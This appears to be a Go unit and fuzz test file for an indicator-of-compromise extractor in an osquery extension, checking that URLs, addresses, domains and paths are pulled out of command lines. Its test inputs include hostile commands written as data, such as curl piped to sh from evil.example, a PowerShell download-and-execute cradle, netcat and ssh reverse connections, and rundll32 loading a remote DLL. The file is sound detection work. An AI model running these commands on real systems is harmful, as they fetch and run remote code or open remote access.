package ioc_test

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/osquery-rollcall/rollcall/extension/ioc"
	"github.com/osquery-rollcall/rollcall/tests/cputime"
)

func TestInText(t *testing.T) {
	for _, c := range []struct {
		text string
		want []ioc.Facts
	}{
		{"", nil},
		{"systemctl list-units --all", nil},
		{"curl -o /tmp/x http://evil.example/x.sh | sh", []ioc.Facts{{Path: "/tmp/x"}, {URL: "http://evil.example/x.sh"}}},
		{`powershell IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a')`, []ioc.Facts{{Domain: "net.webclient"}, {URL: "https://evil.example/a"}}},
		{"nc 192.0.2.1 443", []ioc.Facts{{Addr: "192.0.2.1"}}},
		{"ssh -R 1:2 root@192.0.2.1", []ioc.Facts{{Addr: "192.0.2.1"}}},
		{"x --server=192.0.2.1:8443 --peer=[2001:db8::1]:53", []ioc.Facts{{Addr: "192.0.2.1", Port: 8443}, {Addr: "2001:db8::1", Port: 53}}},
		{"ping c2.example.net:443/x", []ioc.Facts{{Domain: "c2.example.net"}}},
		{`copy \\192.0.2.1\c$\x.exe C:\Temp\x.exe`, []ioc.Facts{{Addr: "192.0.2.1", Path: `\\192.0.2.1\c$\x.exe`}, {Path: `C:\Temp\x.exe`}}},
		{`rundll32 \\evil.example@8080\dav\x.dll,Run`, []ioc.Facts{{Domain: "evil.example", Path: `\\evil.example@8080\dav\x.dll`}}},
		{"wget =ftp://evil.example.", []ioc.Facts{{URL: "ftp://evil.example"}}},
		{"a ://x 1.2 //x", nil},
	} {
		if diff := cmp.Diff(c.want, ioc.InText(c.text)); diff != "" {
			t.Errorf("%s:\n%s", c.text, diff)
		}
	}
	start := cputime.Start()
	for _, s := range []string{strings.Repeat("a.b ", 1<<20), strings.Repeat("://", 1<<20), strings.Repeat("a", 1<<20), strings.Repeat("1.2.3.4 ", 1<<20)} {
		if got := ioc.InText(s); len(got) > 64 {
			t.Errorf("%d facts", len(got))
		}
	}
	if took := start.Took(); took > 5*time.Second {
		t.Errorf("it took %v", took)
	}
}

func FuzzInText(f *testing.F) {
	f.Add("curl http://evil.example/x | sh -c '\\\\h\\s' [::1]:53 a@b.c=d")
	f.Fuzz(func(t *testing.T, text string) {
		for _, x := range ioc.InText(text) {
			if x == (ioc.Facts{}) {
				t.Error("nothing was found, and told")
			}
		}
	})
}
